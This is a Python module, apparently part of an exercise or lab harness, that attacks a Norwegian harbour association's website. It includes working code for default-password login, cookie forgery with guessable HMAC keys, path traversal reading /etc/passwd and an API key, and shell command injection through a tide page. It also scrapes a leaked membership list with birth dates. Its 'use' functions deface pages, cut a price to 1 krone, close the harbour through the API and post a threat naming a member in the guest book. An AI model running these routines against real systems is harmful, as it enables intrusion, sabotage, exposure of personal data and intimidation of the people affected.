"""Doors in the web site: default password, well-known key, paths that leave, commands that join, public backup."""

import hmac
import re
from hashlib import sha256
from random import randint
from urllib.parse import quote

from bryggegjengen.means import Page, Unsure, ask

DEFAULTS = (("admin", "admin"), ("admin", "passord"), ("admin", "skarvoy"))
KNOWN_KEYS = ("endre-meg", "hemmelig", "nokkel", "")
SCRAPED = "medlemsnr;navn;fodselsdato"
NOTICE = "HAVNA ER STENGT. Hilsen Bryggegjengen"


# A default password


def default_session() -> str:
    """The cookie of whoever signs in as every manual says; empty when nobody does."""
    _office()
    for user, password in DEFAULTS:
        page = ask("POST", "/kontor/inn", {"bruker": user, "passord": password})
        if page.cookie and _is_inside(page.cookie):
            return page.cookie
    return ""


def knock_default_admin() -> bool:
    return bool(default_session())


def use_default_admin() -> str:
    ask("POST", "/kontor/endre", {"oppslag": NOTICE}, Cookie=default_session())
    return "signed in as admin and put up a notice"


# A well-known key


def forged_session() -> str:
    """A cookie of our own making that the office takes for its own; empty when it does not."""
    _office()
    for key in KNOWN_KEYS:
        cookie = f"okt=admin.{hmac.new(key.encode(), b'admin', sha256).hexdigest()}"
        if _is_inside(cookie):
            return cookie
    return ""


def knock_forged_session() -> bool:
    return bool(forged_session())


def use_forged_session() -> str:
    ask("POST", "/kontor/endre", {"pris": "1"}, Cookie=forged_session())
    return "forged a session and put the price down to 1 krone"


def _office() -> Page:
    page = ask("GET", "/kontor/inn")
    if page.status != 200 or "passord" not in page.text:
        raise Unsure("nobody can sign in to the office")
    return page


def _is_inside(cookie: str) -> bool:
    page = ask("GET", "/kontor", Cookie=cookie)
    if page.status >= 500:
        raise Unsure("the office is broken")
    return page.status == 200


# Paths that leave the folder


def read_outside(path: str) -> str:
    """A file of the server by way of the documents; empty when only documents are handed out."""
    if "HAVNEREGLEMENT" not in ask("GET", "/dokumenter/hent?fil=havnereglement.txt").text:
        raise Unsure("the documents are not handed out")
    for up in ("../", "....//", "..%2f", "%2e%2e/"):
        page = ask("GET", f"/dokumenter/hent?fil={up * 6}{path.lstrip('/')}")
        if page.status == 200 and page.text.strip():
            return page.text
    return ""


def knock_path_traversal() -> bool:
    return "root:x:0" in read_outside("/etc/passwd")


def use_path_traversal() -> str:
    key = re.search(r"(?s)\[api\].*?nokkel = (\w+)", read_outside("/srv/havn/havn.ini"))
    if key is None:
        return "read the server's files, and found no key among them"
    ask("POST", "/api/status", {"status": "stengt"}, **{"X-Nokkel": key[1]})
    return "read the key of the port office and closed the guest harbour with it"


# Commands that join


def run_beside(command: str) -> str:
    """The tide page's answer when a command is put behind the place's name."""
    if " cm" not in ask("GET", "/tidevann?sted=Skarv%C3%B8y").text:
        raise Unsure("the tides are not shown")
    return ask("GET", f"/tidevann?sted={quote(command)}").text


def knock_command_injection() -> bool:
    one, other = randint(1000, 9999), randint(1000, 9999)
    sums = f"echo $(({one} * {other}))"
    ways = (f"x; {sums}", f"x | {sums}", f"x && {sums}", f"x\n{sums}", f"$({sums})", f"`{sums}`")
    return any(str(one * other) in run_beside(way) for way in ways)


def use_command_injection() -> str:
    run_beside("x; echo 'Bryggegjengen var her. Fin side dere hadde.' > /srv/havn/tekst/velkommen.txt")
    return "ran a command behind the tides and wrote over the welcome"


# A public backup


def scraped(folder: str = "/filer/", depth: int = 3) -> str:
    """The membership list, wherever it lies among the public files; empty when it does not."""
    listing = ask("GET", folder)
    if listing.status != 200:
        raise Unsure("the public files are not shown")
    for link in re.findall(r'href="(/filer/[^"]+)"', listing.text):
        if link.endswith("/"):
            found = scraped(link, depth - 1) if depth and link != folder else ""
        else:
            found = ask("GET", quote(link)).text
        if SCRAPED in found:
            return found
    return ""


def knock_open_backup() -> bool:
    return bool(scraped())


def use_open_backup() -> str:
    name = scraped().partition("1007;")[2].split(";")[0]
    ask(
        "POST",
        "/gjestebok",
        {"hilsen": f"Bryggegjengen har medlemslista. {name} og alle de andre: dere hører fra oss."},
    )
    return "fetched the membership list and boasted of it in the guest book"
